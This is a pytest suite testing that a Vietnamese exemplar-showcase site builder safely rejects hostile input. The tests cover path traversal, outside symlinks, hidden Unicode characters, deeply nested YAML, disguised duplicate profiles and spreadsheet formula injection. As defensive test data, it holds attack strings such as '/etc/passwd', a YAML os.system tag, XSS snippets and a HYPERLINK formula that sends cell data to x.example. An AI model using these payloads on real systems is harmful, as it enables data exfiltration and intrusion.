"""Hostile files: paths that leave the site, crashes, hidden characters, duplicates in
disguise, spreadsheet formulas (issue 11). Whatever the content, validating gives located
problems and building gives a Vietnamese message or a site, never a traceback, a crash or a
file written outside site/.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from repo_fixture import ROOT, Repo, line_of
from showcase.calendar import load_calendar
from showcase.criteria import load_criteria
from showcase.hygiene import spreadsheet_safe, xml_safe
from showcase.problems import ProblemError
from showcase.repository import load_showcase
from showcase.rules import CODES

A = "exemplars/nguyen-van-a.md"
H = "exemplars/htx-dong-tam.md"
FIXTURE = ROOT / "tests" / "fixtures" / "repo"
PYTHON = sys.executable


def codes(result) -> set[tuple[str, str]]:
    return {(p.code, p.path) for p in result.problems}


def only_problem(result, code: str, path: str):
    found = [p for p in result.problems if p.code == code and p.path == path]
    assert found, [(p.code, p.path, p.message) for p in result.problems]
    return found[0]


@pytest.fixture
def repo(tmp_path) -> Repo:
    return Repo(tmp_path / "repo")


# --- criteria.yml and units.yml: ids are slugs, shapes are checked (DH008, DH009) --------


@pytest.mark.parametrize("old, new, suggestion", [
    ("    agriculture: Nông nghiệp", "    '../quyen-rieng-tu': Nông nghiệp", "quyen-rieng-tu"),
    ("    agriculture: Nông nghiệp", "    '../../../x': Nông nghiệp", "x"),
    ("    agriculture: Nông nghiệp", "    Nông Nghiệp: Nông nghiệp", "nong-nghiep"),
    ("    individual: Cá nhân", "    individual : Cá nhân\n    'cá nhân/2': Cá nhân", "ca-nhan-2"),
    ("  innovation:\n", "  'innovation/../../x':\n", "innovation-x"),
    ("  innovation:\n", "  Innovation:\n", "innovation"),
])
def test_dh008_ids_must_be_slugs(repo, old, new, suggestion):
    repo.replace("criteria.yml", old, new)
    result = repo.validate()
    p = only_problem(result, "DH008", "criteria.yml")
    assert result.showcase is None
    assert p.line == line_of(repo.read("criteria.yml"), new.strip().split("\n")[-1].split(":")[0])
    assert f"`{suggestion}`" in p.hint


def test_dh008_near_miss_new_slug_ids_are_accepted(repo):
    repo.replace("criteria.yml", "    agriculture: Nông nghiệp, nông thôn",
                 "    agriculture: Nông nghiệp, nông thôn\n    nong-nghiep-2: Nông nghiệp 2")
    assert not repo.validate().errors


@pytest.mark.parametrize("old, new, where", [
    ("quotas:\n", "quotas: [3, 1]\nquotas_old:\n", "quotas: [3, 1]"),
    ("limits:\n", "limits: [1, 2]\nlimits_old:\n", "limits: [1, 2]"),
    ("limits:\n", "limits: nhiều\nlimits_old:\n", "limits: nhiều"),
    ("  max_per_unit_per_year: 3", "  max_per_unit_per_year: ba", "max_per_unit_per_year: ba"),
    ("  summary_max_chars: 300", "  summary_max_chars: [300]", "summary_max_chars: [300]"),
    ("  kinds:  # Loại điển hình\n", "  kinds: [individual, collective]\n  kinds_old:\n", "kinds: [individual"),
    ("    individual: Cá nhân", "    individual: [Cá nhân]", "individual: [Cá nhân]"),
    ("    individual: Cá nhân", "    individual:", "individual:"),
    ("  innovation:\n    label: Sáng tạo, sáng kiến\n", "  innovation: Sáng tạo\n  innovation_old:\n    label: x\n",
     "innovation: Sáng tạo"),
    ("    label: Sáng tạo, sáng kiến", "    label: {a: b}", "label: {a: b}"),
    ("priority: Ưu tiên", "priority: [Ưu tiên]\npriority_old: Ưu tiên", "priority: [Ưu tiên"),
    ("vocabularies:\n", "vocabularies: []\nvocabularies_old:\n", "vocabularies: []"),
    ("criteria:\n", "criteria: 7\ncriteria_old:\n", "criteria: 7"),
])
def test_dh008_wrong_shapes_are_located_never_a_traceback(repo, old, new, where):
    repo.replace("criteria.yml", old, new)
    result = repo.validate()
    p = only_problem(result, "DH008", "criteria.yml")
    assert p.line == line_of(repo.read("criteria.yml"), where)
    assert p.message and p.hint


def test_dh008_whole_file_of_another_shape(repo):
    for text in ("- a\n- b\n", "42\n", "", "vocabularies:\n  kinds: {a: A}\n"):
        repo.write("criteria.yml", text)
        assert [p.code for p in repo.validate().problems] == ["DH008"]


@pytest.mark.parametrize("uid, suggestion", [
    ("'../ubnd'", "ubnd"), ("UBND-Xa", "ubnd-xa"), ("'ubnd xã b'", "ubnd-xa-b"), ("2024", "2024"),
])
def test_dh009_unit_ids_must_be_slugs(repo, uid, suggestion):
    repo.write("units.yml", repo.read("units.yml") + f'{uid}: {{name: "Đơn vị B", level: local}}\n')
    p = only_problem(repo.validate(), "DH009", "units.yml")
    assert p.line == line_of(repo.read("units.yml"), uid)
    if uid != "2024":
        assert f"`{suggestion}`" in p.hint


def test_dh009_near_miss_slug_unit_id(repo):
    repo.write("units.yml", repo.read("units.yml") + 'ubnd-xa-b-2: {name: "UBND xã B", level: local}\n')
    assert not repo.validate().errors


# --- Folders: symlinks, dot-files, folder names (DH012, DH002, DH010) --------------------


def test_dh012_profile_that_is_a_symlink_to_a_file_outside(repo, tmp_path):
    outside = tmp_path / "secret.md"
    outside.write_text(repo.read(A).replace("name: Nguyễn Văn A", "name: Bí Mật"), encoding="utf-8")
    (repo.path / "exemplars" / "bi-mat.md").symlink_to(outside)
    result = repo.validate()
    only_problem(result, "DH012", "exemplars/bi-mat.md")
    assert "bi-mat" not in (result.showcase.exemplars if result.showcase else {})


def test_dh012_symlink_inside_the_repository_and_symlinked_folder(repo, tmp_path):
    (repo.path / "exemplars" / "ban-sao.md").symlink_to(repo.path / A)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.copy(repo.path / H, elsewhere / "htx-khac.md")
    (repo.path / "exemplars" / "them").symlink_to(elsewhere, target_is_directory=True)
    result = repo.validate()
    only_problem(result, "DH012", "exemplars/ban-sao.md")
    only_problem(result, "DH012", "exemplars/them")
    assert not any(p.path.startswith("exemplars/them/") for p in result.problems)


def test_dh012_symlinked_photo_and_folder(repo, tmp_path):
    photo = repo.path / "exemplars" / "images" / "nguyen-van-a.png"
    target = tmp_path / "other.png"
    shutil.move(photo, target)
    photo.symlink_to(target)
    only_problem(repo.validate(), "DH012", "exemplars/images/nguyen-van-a.png")


def test_dh012_movements_folder_itself_a_symlink(repo, tmp_path):
    shutil.move(repo.path / "movements", tmp_path / "movements")
    (repo.path / "movements").symlink_to(tmp_path / "movements", target_is_directory=True)
    only_problem(repo.validate(), "DH012", "movements")


def test_dh002_dot_files_and_folders_are_reported_placeholders_and_os_files_are_not(repo):
    repo.write("exemplars/.nguyen-van-c.md", repo.read(A))
    repo.write("exemplars/.nhap/nguyen-van-d.md", repo.read(A))
    for junk in (".gitkeep", ".DS_Store", "Thumbs.db", "desktop.ini"):  # git's and the desktop's own files
        repo.write(f"exemplars/{junk}", "")
    repo.write("movements/.gitkeep", "")
    result = repo.validate()
    only_problem(result, "DH002", "exemplars/.nguyen-van-c.md")
    only_problem(result, "DH002", "exemplars/.nhap")
    assert not any(p.path.startswith("exemplars/.nhap/") for p in result.problems)
    assert [p.path for p in result.problems] == ["exemplars/.nguyen-van-c.md", "exemplars/.nhap"]


def test_dh010_folder_names_must_be_slugs_images_is_fine(repo):
    repo.write("exemplars/Ninh Bình/nguyen-van-e.md", repo.read(A).replace("Nguyễn Văn A", "Nguyễn Văn E"))
    result = repo.validate()
    p = only_problem(result, "DH010", "exemplars/Ninh Bình")
    assert "`ninh-binh`" in p.hint
    assert not any(p.code == "DH010" and "images" in p.path for p in result.problems)


def test_dh010_near_miss_slug_folder(repo):
    repo.write("exemplars/ninh-binh/nguyen-van-e.md",
               repo.read(A).replace("Nguyễn Văn A", "Nguyễn Văn E").replace("photo: images/", "photo: ../images/"))
    assert not repo.validate().errors


@pytest.mark.parametrize("name", [b"nguyen\x1b[31m.md", b"nguyen\xff.md", "nguyen\u202evan.md".encode(),
                                  "ng\u200buyen.md".encode(), b"abc\n.md"])
def test_dh010_file_names_with_hidden_or_undecodable_characters_are_never_loaded(repo, name):
    with open(os.path.join(os.fsencode(repo.path / "exemplars"), name), "w", encoding="utf-8") as file:
        file.write(repo.read(A).replace("Nguyễn Văn A", "Nguyễn Văn F"))
    result = repo.validate()
    found = [p for p in result.problems if p.path.startswith("exemplars/") and p.path != A
             and p.path != "exemplars/htx-dong-tam.md" and p.path != "exemplars/ho-ong-tran-van-b.md"]
    assert [p.code for p in found] == ["DH010"], found
    assert found[0].path.isprintable() and "\x1b" not in found[0].message
    assert found[0].hint.endswith(".md`.") and "nguyen" in found[0].hint or "abc" in found[0].hint
    assert len(result.showcase.exemplars) == 3


def test_dh008_dh009_overlong_ids(repo):
    long_id = "-".join(["nong-nghiep"] * 20)
    repo.write("units.yml", repo.read("units.yml") + f'{long_id}: {{name: "Đơn vị B", level: local}}\n')
    assert "quá 100 ký tự" in only_problem(repo.validate(), "DH009", "units.yml").message
    repo.replace("criteria.yml", "    agriculture: Nông nghiệp", f"    {long_id}: Nông nghiệp")
    assert "quá 100 ký tự" in only_problem(repo.validate(), "DH008", "criteria.yml").message


# --- Deep nesting: DH003, never RecursionError or SIGSEGV ---------------------------------

DEEP = {
    "dashes": lambda n: "- " * n + "x\n",
    "questions": lambda n: "? " * n + "x\n",
    "indented": lambda n: "".join(" " * i + "-\n" for i in range(min(n, 2500))),
    "mapping": lambda n: "".join(" " * i + f"k{i}:\n" for i in range(min(n, 2500))),
    "mixed": lambda n: "".join("  " * i + "- a:\n" for i in range(min(n, 1200))),
    "flow in block": lambda n: "- " * 40 + "[" * 60 + "x" + "]" * 60 + "\n",
}


@pytest.mark.parametrize("shape", DEEP)
def test_dh003_deep_nesting_in_data_files(repo, shape):
    for name in ("units.yml", "calendar.yml", "criteria.yml"):
        fresh = Repo(repo.path.parent / f"{name}-{shape}".replace(" ", "-"))
        fresh.write(name, "a:\n" + "".join("  " + line + "\n" for line in DEEP[shape](1000).splitlines()))
        p = only_problem(fresh.validate(), "DH003", name)
        assert p.line and p.line > 1 and "sâu" in p.message


@pytest.mark.parametrize("shape", DEEP)
def test_dh003_deep_nesting_in_a_profile(repo, shape):
    nested = "".join("  " + line + "\n" for line in DEEP[shape](400).splitlines())  # 200 KB at most
    repo.replace(A, "sources:\n", f"extra:\n{nested}sources:\n")
    p = only_problem(repo.validate(), "DH003", A)
    assert p.line > line_of(repo.read(A), "extra:") and "sâu" in p.message


def test_dh003_near_miss_deep_indents_in_a_block_scalar(repo):
    poem = "".join(" " * (30 + i) + f"dòng {i}\n" for i in range(40))
    repo.replace(A, "summary: Nông dân sản xuất giỏi, giúp 20 hộ trong thôn thoát nghèo.",
                 "summary: |\n  Nông dân sản xuất giỏi.\n" + poem.rstrip("\n"))
    assert not [p for p in repo.validate().errors if p.path == A and p.code == "DH003"]


def _run(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, timeout=120)


def _assert_clean_failure(run: subprocess.CompletedProcess, code: str = "DH003") -> None:
    assert run.returncode == 1, (run.returncode, run.stderr[-2000:])  # a signal gives a negative code
    assert "Traceback" not in run.stdout + run.stderr
    assert code in run.stdout + run.stderr


@pytest.mark.parametrize("levels", [1000, 60_000])
def test_dh003_deep_nesting_through_the_validator_script(repo, levels):
    """In a subprocess: a segfault fails the test instead of killing pytest."""
    repo.replace(A, "sources:\n", "extra: " + "- " * levels + "x\nsources:\n")
    repo.write("units.yml", "- " * levels + "x\n")
    repo.write("calendar.yml", "events:\n" + "  - " + "- " * levels + "x\n")
    run = _run([PYTHON, str(ROOT / "scripts" / "validate.py"), "--no-cache", "--root", str(repo.path)], repo.path)
    _assert_clean_failure(run)
    assert "units.yml" in run.stdout and "calendar.yml" in run.stdout
    deep_criteria = Repo(repo.path.parent / "criteria")
    deep_criteria.write("criteria.yml", "vocabularies:\n  kinds: " + "- " * levels + "x\n")
    run = _run([PYTHON, str(ROOT / "scripts" / "validate.py"), "--no-cache", "--root", str(deep_criteria.path)],
               deep_criteria.path)
    _assert_clean_failure(run)


# --- Hidden characters (DH110) ------------------------------------------------------------


@pytest.mark.parametrize("old, new, char", [
    ("name: Nguyễn Văn A", "name: Nguyễn Văn\u200b A", "U+200B"),
    ("name: Nguyễn Văn A", "name: Nguyễn \u202eA nắV", "U+202E"),
    ("place: Thôn Đông", "place: Thôn\u2066 Đông", "U+2066"),
    ("summary: Nông dân", "summary: Nông\u00ad dân", "U+00AD"),
    ("summary: Nông dân", "summary: Nông\u2060dân", "U+2060"),
    ("name: Nguyễn Văn A", 'name: "Nguyễn Văn A\\u202e"', "U+202E"),  # a YAML escape: no such character typed
    ("name: Nguyễn Văn A", 'name: "Nguyễn Văn A\\x07"', "U+0007"),
    ("name: Nguyễn Văn A", 'name: "Nguyễn Văn A\\x1b[2J"', "U+001B"),
    ("## Hành trình vượt khó", "## Hành trình\x07 vượt khó", "U+0007"),
    ("## Hành trình vượt khó", "## Hành trình\x85 vượt khó", "U+0085"),
    ("## Hành trình vượt khó", "## Hành trình\ufeff vượt khó", "U+FEFF"),
    ("## Hành trình vượt khó", "## Hành trình\U000e0041 vượt khó", "U+E0041"),
])
def test_dh110_hidden_characters_in_a_profile(repo, old, new, char):
    repo.replace(A, old, new)
    found = [p for p in repo.validate().problems if p.code == "DH110"]
    assert len(found) == 1 and found[0].path == A, found
    assert found[0].line == line_of(repo.read(A), new) and char in found[0].message and found[0].hint


def test_dh110_escaped_and_typed_in_two_fields_are_both_reported(repo):
    repo.replace(A, "name: Nguyễn Văn A", 'name: "Nguyễn Văn\\u202e A"')
    repo.replace(A, "place: Thôn Đông", "place: Thôn\u200b Đông")
    found = [p for p in repo.validate().problems if p.code == "DH110"]
    assert [(p.line, "U+202E" in p.message) for p in found] == [
        (line_of(repo.read(A), "name:"), True), (line_of(repo.read(A), "place:"), False)]


def test_dh110_in_a_movement(repo):
    repo.replace("movements/nong-thon-moi.md", "Phong trào được", "Phong trào \u200bđược")
    only_problem(repo.validate(), "DH110", "movements/nong-thon-moi.md")


def test_dh110_near_miss_tabs_emoji_and_a_bom_at_the_start(repo):
    repo.replace(A, "## Hành trình vượt khó", "## Hành trình vượt khó ❤️\n\n\tThụt lề bằng Tab.")
    repo.write(H, b"\xef\xbb\xbf" + repo.file(H).read_bytes())
    assert not [p for p in repo.validate().problems if p.code == "DH110"]


@pytest.mark.parametrize("name, old, new, code", [
    ("units.yml", '"UBND xã Gia Viễn"', '"UBND xã\\u200b Gia Viễn"', "DH009"),
    ("units.yml", '"UBND xã Gia Viễn"', '"UBND xã\u202e Gia Viễn"', "DH009"),
    ("calendar.yml", "name: Ngày sinh Chủ tịch Hồ Chí Minh", 'name: "Ngày sinh\\x0b Chủ tịch"', "DH011"),
    ("criteria.yml", "    individual: Cá nhân", "    individual: Cá\u200b nhân", "DH008"),
])
def test_dh110_hidden_characters_in_data_files(repo, name, old, new, code):
    if name == "calendar.yml":
        shutil.copy(ROOT / "calendar.yml", repo.file("calendar.yml"))
    repo.replace(name, old, new)
    p = only_problem(repo.validate(), code, name)
    assert p.line == line_of(repo.read(name), new.strip()) and "U+" in p.message


def test_feed_never_holds_an_xml_illegal_character(repo):
    import xml.etree.ElementTree as ET

    from showcase.opendata import feed

    showcase = repo.validate().showcase
    exemplar = showcase.exemplars["nguyen-van-a"]
    exemplar.name = "Nguyễn\x0b Văn\x00 A\ufffe"  # as if validation had let it through
    exemplar.summary = "Tóm tắt\x1b[2J"
    content = feed(showcase, showcase.public_exemplars(), "https://example.org/").content
    assert "Nguyễn Văn A" in "".join(ET.fromstring(content).itertext())
    assert xml_safe("a\x00b\x0bc\td\ne") == "abc\td\ne"


# --- The same person twice, in disguise (DH208) --------------------------------------------


@pytest.mark.parametrize("old, new", [
    ("province: ninh-binh", "province: Ninh Bình"),
    ("province: ninh-binh", "province: Tỉnh Ninh Bình"),
    ("province: ninh-binh", "province: 37"),
    ("name: Nguyễn Văn A", "name: Nguyễn  Văn A"),
    ("name: Nguyễn Văn A", "name: \" Nguyễn Văn\\tA \""),
    ("name: Nguyễn Văn A", "name: Nguyễn Văn\u200b A"),
    ("name: Nguyễn Văn A", "name: Nguyễn\u200d Văn\u2060 A\u202c"),
    ("name: Nguyễn Văn A", "name: NGUYỄN VĂN A"),
    ("name: Nguyễn Văn A", "name: Nguyen Van A"),
    ("name: Nguyễn Văn A", "name: Nguye\u0302\u0303n Va\u0306n A"),  # decomposed (NFD)
    ("name: Nguyễn Văn A", "name: Ｎｇｕｙễｎ Ｖăｎ Ａ"),  # full-width letters
    ("name: Nguyễn Văn A", "name: Nguyễn Văn A."),
    ("place: Thôn Đông, xã Gia Viễn", "place: thôn đông xã gia viễn"),
    ("place: Thôn Đông, xã Gia Viễn", "place: Thôn Ðông, xã Gia Viễn"),  # U+00D0, the Icelandic eth
])
def test_dh208_same_person_in_disguise(repo, old, new):
    twin = repo.read(A).replace(old, new, 1)
    assert twin != repo.read(A)
    repo.write("exemplars/nguyen-van-a-2024.md", twin)
    found = [p for p in repo.validate().problems if p.code == "DH208"]
    assert len(found) == 1, found
    assert found[0].line == line_of(repo.read(found[0].path), "name:")


@pytest.mark.parametrize("old, new", [
    ("place: Thôn Đông, xã Gia Viễn", "place: Thôn Tây, xã Gia Viễn"),
    ("name: Nguyễn Văn A", "name: Nguyễn Văn Anh"),
    ("province: ninh-binh", "province: ha-noi"),
])
def test_dh208_near_miss_different_people(repo, old, new):
    repo.write("exemplars/nguyen-van-a-2024.md", repo.read(A).replace(old, new, 1))
    assert not [p for p in repo.validate().problems if p.code == "DH208"]


# --- Spreadsheets ------------------------------------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _parts(text: str, separator: str) -> list[str]:
    return [part.lstrip(' "') for part in text.split(separator)]


def _runs_as_formula(part: str) -> bool:
    if not part.startswith(TRIGGERS):
        return False
    try:
        float(part.replace(",", "."))  # a plain negative number is a number
        return not part.startswith("-") or "+" in part[1:] or "-" in part[1:]
    except ValueError:
        return True


@pytest.mark.parametrize("value, expected", [
    ("Thôn Đoài;=1+1;", "Thôn Đoài;'=1+1;"),
    ('=HYPERLINK("https://x.example/?d="&A1,"Bấm")', '\'=HYPERLINK("https://x.example/?d="&A1,"Bấm")'),
    ("@SUM(1)", "'@SUM(1)"),
    ("+84912345678", "'+84912345678"),
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1", "'\r'=1"),
    ("a,=1", "a,'=1"),
    ("a; -2+3", "a; '-2+3"),
    ("a|@x", "a|'@x"),
    ('a;"=1', 'a;"\'=1'),
    ("-1", "-1"),
    ("-1,5", "-1,5"),
    ("Thôn Đoài; xã Gia Viễn", "Thôn Đoài; xã Gia Viễn"),
    ("Nguyễn Văn A", "Nguyễn Văn A"),
    ("Quyết định số 12/QĐ-UBND, 2024-11-20", "Quyết định số 12/QĐ-UBND, 2024-11-20"),
])
def test_csv_cells_never_run_as_formulas_whatever_the_separator(value, expected):
    assert spreadsheet_safe(value) == expected


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list('=+-@\t\r;,|" a1.Đ')), max_size=30))
def test_csv_guard_leaves_no_formula_in_any_part(value):
    safe = spreadsheet_safe(value)
    assert safe.replace("'", "") == value.replace("'", "")  # only apostrophes added
    for separator in ",;\t|\n\r":
        assert not any(_runs_as_formula(part) for part in _parts(safe, separator)), (value, safe, separator)


def test_open_data_and_report_csv_are_guarded(repo):
    from showcase.opendata import exemplars_csv, open_data_rows
    from showcase.report import Period, build_report, render_csv

    repo.replace(A, "place: Thôn Đông, xã Gia Viễn", "place: \"Thôn Đoài;=1+1;\"")
    repo.replace("units.yml", '"UBND xã Gia Viễn"', '"=HYPERLINK(\\"https://x.example\\");@SUM(1)"')
    result = repo.validate()
    assert not result.errors, result.errors
    showcase = result.showcase
    rows = [open_data_rows(showcase, e, None, "https://x.example/")[1] for e in showcase.public_exemplars()]
    texts = {"open data": exemplars_csv(rows).content.lstrip("\ufeff"),
             "report": render_csv(build_report(showcase, Period(2024)))}
    for name, text in texts.items():
        assert "HYPERLINK" in text and ("=1+1" in text or name == "report"), name
        for delimiter in ",;\t":
            for row in csv.reader(io.StringIO(text), delimiter=delimiter):
                for cell in row:
                    for part in _parts(cell, "\n"):
                        assert not _runs_as_formula(part), (name, delimiter, cell)


# --- Where the build writes: never outside site/, never one page over another -------------


def site_tree(dest: Path) -> Path:
    """A small repository to build: the real configuration and theme, tests/fixtures/repo's content."""
    dest.mkdir(parents=True)
    for name in ("mkdocs.yml", "criteria.yml"):
        shutil.copy2(ROOT / name, dest / name)
    for name in ("docs", "overrides"):
        shutil.copytree(ROOT / name, dest / name)
    (dest / "showcase").symlink_to(ROOT / "showcase")  # mkdocs.yml names the hooks by path
    shutil.copytree(FIXTURE, dest, dirs_exist_ok=True)
    return dest


def _generate(root: Path, change) -> None:
    """The adapter's on_files over the loaded content after `change(showcase)`: what a build
    would write if validation had let the change through."""
    from mkdocs.config import load_config
    from mkdocs.structure.files import get_files

    from showcase import mkdocs_hooks

    showcase = load_showcase(root, cache=False).showcase
    change(showcase)
    config = load_config(str(root / "mkdocs.yml"))
    config.plugins._current_plugin = "showcase"  # what MkDocs sets while it runs a hook
    saved = mkdocs_hooks._Build.showcase
    mkdocs_hooks._Build.showcase = showcase
    try:
        mkdocs_hooks.on_files(get_files(config), config)
    finally:
        mkdocs_hooks._Build.showcase = saved


def _tree(top: Path) -> dict[str, tuple]:
    """Every path under `top` but the repository's caches, with what a write would change."""
    found = {}
    for path in top.rglob("*"):
        if ".site-cache" not in path.parts:
            status = path.lstat()
            is_dir = path.is_dir() and not path.is_symlink()  # a folder's time changes with its entries
            found[path.relative_to(top).as_posix()] = (status.st_mode,) if is_dir else (
                status.st_mode, status.st_size, status.st_mtime_ns)
    return found


def _escaping_field(value: str):
    def change(showcase):
        showcase.criteria.vocabularies["fields"][value] = "Lĩnh vực lạ"
        showcase.exemplars["nguyen-van-a"].field = value
        # A listing's address comes from its label (showcase.site.listing_slug): the profile's
        # own address still comes from an id, and carries the value to the output guard.
        showcase.exemplars["nguyen-van-a"].slug = value
    return change


@pytest.mark.parametrize("value", ["../../../x", "../quyen-rieng-tu", "/etc/x", "a\\..\\..\\x", "C:x", ".", "a/./b"])
def test_output_guard_refuses_a_destination_outside_site_or_odd(tmp_path, value):
    from mkdocs.exceptions import PluginError

    root = site_tree(tmp_path / "repo")
    before = _tree(tmp_path)
    with pytest.raises(PluginError) as caught:
        _generate(root, _escaping_field(value))
    assert "site/" in str(caught.value) and "không dựng trang web" in str(caught.value)
    assert _tree(tmp_path) == before


def test_output_guard_refuses_two_pages_at_one_address(tmp_path):
    from mkdocs.exceptions import PluginError

    root = site_tree(tmp_path / "repo")
    def two_fields(showcase):  # `HTX-Dong-Tam/` and `htx-dong-tam/` are one folder on macOS and Windows
        _escaping_field("HTX-Dong-Tam")(showcase)

    with pytest.raises(PluginError) as caught:
        _generate(root, two_fields)
    assert "cùng một địa chỉ" in str(caught.value) and "criteria.yml" in str(caught.value)
    (root / "docs" / "dien-hinh").mkdir()
    (root / "docs" / "dien-hinh" / "nguyen-van-a.md").write_text("# Trang tay\n", encoding="utf-8")
    with pytest.raises(PluginError) as caught:
        _generate(root, lambda showcase: None)
    assert "xoá tệp docs/dien-hinh/nguyen-van-a.md" in str(caught.value)


def test_output_guard_near_miss_a_new_slug_id_builds(tmp_path):
    _generate(site_tree(tmp_path / "repo"), _escaping_field("nong-nghiep-cong-nghe-cao"))


def test_build_fails_cleanly_on_a_docs_page_over_a_profile(tmp_path):
    root = site_tree(tmp_path / "repo")
    (root / "docs" / "dien-hinh").mkdir()
    (root / "docs" / "dien-hinh" / "nguyen-van-a.md").write_text("# Trang tay\n", encoding="utf-8")
    run = _run([PYTHON, "-m", "mkdocs", "build", "--strict"], root)
    assert run.returncode == 1 and "Traceback" not in run.stderr and "cùng một địa chỉ" in run.stderr
    assert not (root / "site").exists()


# --- Any content: never a traceback, never a crash, never a file outside site/ -------------

HOSTILE_VALUES = [
    "'../quyen-rieng-tu'", "'../../../x'", "/etc/passwd", "a\\\\b", "Agriculture", "nong-nghiep", "''", "~", "null",
    "- - - - - x", "[[[[[[x]]]]]]", "{a: {b: {c: d}}}", "[3, 1]", "{}", "[]", "&a x", "*a",
    "!!python/object:os.system x",
    "!!binary aGk=", '"\\u202eA nắV"', '"\\x00\\x07\\x1b"', '"a\\u200bb"', "\u200bNguyễn", "\u202eVăn", "Thôn\x85Đoài",
    "2024-02-30", "0001-01-01", "9999-12-31", "2024-01-01 10:00:00", "1e309", ".nan", "-.inf", "-1", "0", "10000000000",
    "true", "yes", "37", "Ninh Bình", "Tỉnh Ninh Bình", "ninh-binh", "'=HYPERLINK(\"x\")'", "'Thôn Đoài;=1+1;'",
    "'@SUM(1)'", "'+84912345678'", "|\n  khối\n    chữ", ">-\n  gấp\n  dòng", "<script>alert(1)</script>",
    "'javascript:alert(1)'", "x" * 400, "'" + "Đ" * 300 + "'",
]
KEYS = ["vocabularies", "criteria", "quotas", "limits", "priority", "kinds", "fields", "levels", "label", "wording",
        "max_per_unit_per_year", "file_max_bytes", "events", "date", "name", "yearly", "note", "level", "photo",
        "province", "kind", "field", "movements", "published", "status", "consent", "given"]
SCALARS = (st.none() | st.booleans() | st.integers(-2, 10**12) | st.floats() | st.dates()
           | st.sampled_from(["../x", "ninh-binh", "Ninh Bình", "\u202e", "=1+1", "agriculture", "a b"])
           | st.text(max_size=12))
DOCUMENTS = st.recursive(SCALARS, lambda inner: st.lists(inner, max_size=4)
                         | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=6) | st.integers(0, 3), inner,
                                           max_size=5), max_leaves=25)
VALUES = st.sampled_from(HOSTILE_VALUES) | st.text(
    alphabet=st.sampled_from(list("ab:- \n\t[]{}&*!|>'\"#%@`,?.09đĐ\u200b\x85")), max_size=40)
DATA_FILES = ["criteria.yml", "units.yml", "calendar.yml", A, H, "exemplars/ho-ong-tran-van-b.md",
              "movements/nong-thon-moi.md", "movements/chuyen-doi-so.md"]


@st.composite
def mutations(draw):
    """(file, new text): a data file, a profile or a movement with one hostile change."""
    rel = draw(st.sampled_from(DATA_FILES))
    source = ROOT / rel if rel in ("criteria.yml", "calendar.yml") else FIXTURE / rel
    lines = source.read_text(encoding="utf-8").split("\n")
    if rel.endswith(".md"):  # keep the front-matter's fences: the change is in its values
        end = lines.index("---", 1)
        where = draw(st.integers(1, end - 1))
    else:
        where = draw(st.integers(0, len(lines) - 1))
    how = draw(st.sampled_from(["value", "value", "value", "insert", "delete", "indent", "document"]))
    line = lines[where]
    if how == "value" and ":" in line:
        key, _, _ = line.partition(":")
        lines[where] = f"{key}: {draw(VALUES)}"
    elif how == "insert" or how == "value":
        lines.insert(where, draw(st.sampled_from(KEYS)) + ": " + draw(VALUES))
    elif how == "delete":
        del lines[where]
    elif how == "indent":
        lines[where] = " " * draw(st.integers(1, 5)) + line
    elif rel.endswith(".md"):
        document = yaml.safe_dump(draw(DOCUMENTS), allow_unicode=True)
        lines[1:end] = document.rstrip("\n").split("\n")
    else:
        lines = yaml.safe_dump(draw(DOCUMENTS), allow_unicode=True).split("\n")
    return rel, "\n".join(lines)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(mutations(), min_size=1, max_size=3))
@example([("criteria.yml",
           (ROOT / "criteria.yml").read_text(encoding="utf-8").replace("quotas:\n", "quotas: [3, 1]\nq:\n"))])
@example([("units.yml", "- " * 60_000 + "x\n")])
def test_validating_any_content_never_raises(changes):
    with tempfile.TemporaryDirectory() as tmp:
        repo = Repo(Path(tmp) / "repo")
        shutil.copy(ROOT / "calendar.yml", repo.file("calendar.yml"))
        for rel, text in changes:
            repo.write(rel, text)
        result = load_showcase(repo.path, cache=False)
        assert result.problems or result.showcase is not None
        for p in result.problems:
            assert p.code in CODES and p.message and "Traceback" not in p.message
            assert p.line is None or p.line >= 1


@settings(max_examples=200, deadline=None)
@given(DOCUMENTS)
def test_data_file_loaders_accept_any_document(data):
    from showcase.repository import _load_units

    text = yaml.safe_dump(data, allow_unicode=True)
    for wrap in (lambda d: d, lambda d: {"vocabularies": d}, lambda d: {"events": [d]}, lambda d: {"u": d}):
        text = yaml.safe_dump(wrap(data), allow_unicode=True)
        with tempfile.TemporaryDirectory() as tmp:
            root = Path(tmp)
            for name in ("criteria.yml", "calendar.yml", "units.yml"):
                (root / name).write_text(text, encoding="utf-8")
            for load in (lambda: load_criteria(root / "criteria.yml"), lambda: load_calendar(root)):
                try:
                    load()
                except ProblemError as exc:
                    assert exc.problem.code in CODES and exc.problem.message
            problems = []
            _load_units(root, load_criteria(ROOT / "criteria.yml"), problems)
            assert all(p.code in CODES for p in problems)


@pytest.fixture(scope="module")
def site_template(tmp_path_factory) -> Path:
    return site_tree(tmp_path_factory.mktemp("template") / "repo")


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                   HealthCheck.too_slow])
@given(mutations())
@example(("criteria.yml", (ROOT / "criteria.yml").read_text(encoding="utf-8")
          .replace("    agriculture:", "    '../../../x':")))
@example((A, (FIXTURE / A).read_text(encoding="utf-8").replace("name: Nguyễn Văn A", 'name: "Nguyễn\\x0b Văn A"')))
def test_building_any_content_fails_cleanly_and_writes_only_the_site(site_template, change):
    rel, text = change
    with tempfile.TemporaryDirectory() as tmp:
        top = Path(tmp)
        root = top / "repo"
        shutil.copytree(site_template, root, symlinks=True)
        (root / rel).write_text(text, encoding="utf-8")
        before = _tree(top)
        run = _run([PYTHON, "-m", "mkdocs", "build", "--strict"], root)
        output = run.stdout + run.stderr
        assert run.returncode in (0, 1), (run.returncode, output[-3000:])
        assert "Traceback" not in output, output[-3000:]
